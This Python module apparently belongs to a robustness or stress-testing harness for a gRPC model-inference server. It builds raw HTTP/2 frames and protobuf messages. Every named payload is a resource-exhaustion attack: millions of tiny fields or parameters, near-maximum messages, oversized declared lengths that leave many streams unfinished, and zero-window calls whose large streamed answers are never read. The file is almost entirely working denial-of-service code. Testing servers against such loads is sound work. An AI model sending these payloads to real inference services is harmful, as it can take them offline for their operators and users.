"""Payloads of the attacks with gRPC, by the number of the connection."""

from __future__ import annotations

import struct
from collections.abc import Callable
from dataclasses import dataclass
from enum import IntEnum

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
METHOD = b"/inference.GRPCInferenceService/ModelInfer"
STREAMED = b"/inference.GRPCInferenceService/ModelStreamInfer"
FRAME_BYTES = 16_384
END_STREAM, END_HEADERS, ACK = 1, 4, 1
MAX_MESSAGE_BYTES = 8 << 20
ECHOED_BYTES = 50_000
"""An identifier, which the answer repeats: more than what an answer of the sample takes."""


class Kind(IntEnum):
    """Frames that are used here."""

    DATA = 0
    HEADERS = 1
    RESET = 3
    SETTINGS = 4
    PING = 6
    GOAWAY = 7
    WINDOW = 8
    CONTINUATION = 9


@dataclass(frozen=True, slots=True, kw_only=True)
class Calls:
    """The calls of one connection."""

    message: bytes
    method: bytes = METHOD
    messages: int = 1
    """Messages of a call; a call of several stays open for more."""
    declared_bytes: int | None = None
    """Announced size of the message; more than it has leaves the call unfinished."""
    streams: int = 1
    window: int = 65_535
    """For answers; 0: nothing is read."""


def frame(kind: Kind, flags: int, stream: int, body: bytes = b"") -> bytes:
    """Return a frame."""
    return (
        struct.pack(">I", len(body))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + body
    )


def headers(method: bytes) -> bytes:
    """Return the head of a call, uncompressed and without indexing."""
    fields = (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", method),
        (b":authority", b"x"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    )
    return b"".join(
        b"\x00" + bytes((len(name),)) + name + bytes((len(value),)) + value
        for name, value in fields
    )


def field(number: int, data: bytes) -> bytes:
    """Return a field of bytes of a message."""
    return varint(number << 3 | 2) + varint(len(data)) + data


def varint(value: int) -> bytes:
    """Return a number as it is on the wire."""
    said = bytearray()
    while value > 0x7F:
        said.append(value & 0x7F | 0x80)
        value >>= 7
    said.append(value)
    return bytes(said)


def request(elements: int, items: int, *, raw: bool) -> bytes:
    """Return the largest valid message, its numbers as raw contents or as contents."""
    data = struct.pack("<d", 0.5) * elements * items
    shape = field(3, varint(items) + varint(elements))
    contents = b"" if raw else field(5, field(7, data))
    tensor = field(1, b"x") + field(2, b"FP64") + shape + contents
    return field(1, b"m") + field(5, tensor) + (field(7, data) if raw else b"")


def _filler(size: int) -> bytes:
    return field(1, b"m") + field(7, bytes(size))


PAYLOADS: dict[str, Callable[[int, int], Calls]] = {
    "gRPC raw": lambda n, items: Calls(message=request(n, items, raw=True)),
    "gRPC contents": lambda n, items: Calls(message=request(n, items, raw=False)),
    "gRPC fields": lambda _, __: Calls(message=field(1, b"m") + b"\x2a\x00" * 4_000_000),
    "gRPC parameters": lambda _, __: Calls(
        message=field(1, b"m") + field(5, field(1, b"x") + field(4, field(1, b"k")) * 1_000_000)
    ),
    "gRPC shape": lambda _, __: Calls(message=field(5, field(3, b"\x01" * 8_000_000))),
    "gRPC filler": lambda _, __: Calls(message=_filler(MAX_MESSAGE_BYTES - 1000)),
    "gRPC unfinished": lambda _, __: Calls(
        message=_filler(7 << 20), declared_bytes=MAX_MESSAGE_BYTES, streams=4
    ),
    "gRPC streams": lambda _, __: Calls(
        message=_filler(60_000), declared_bytes=MAX_MESSAGE_BYTES, streams=90
    ),
    "gRPC stream parts": lambda _, __: Calls(
        method=STREAMED, message=_filler(7 << 20), declared_bytes=MAX_MESSAGE_BYTES, streams=4
    ),
    "gRPC stream answers": lambda n, _: Calls(
        method=STREAMED,
        message=request(n, 1, raw=True) + field(3, b"i" * ECHOED_BYTES),
        messages=100,
        streams=4,
        window=0,
    ),
    "gRPC unread": lambda n, items: Calls(
        message=request(n, items, raw=True), streams=20, window=0
    ),
}
"""Calls by name, for a model with this many numbers per item and this many items per batch."""
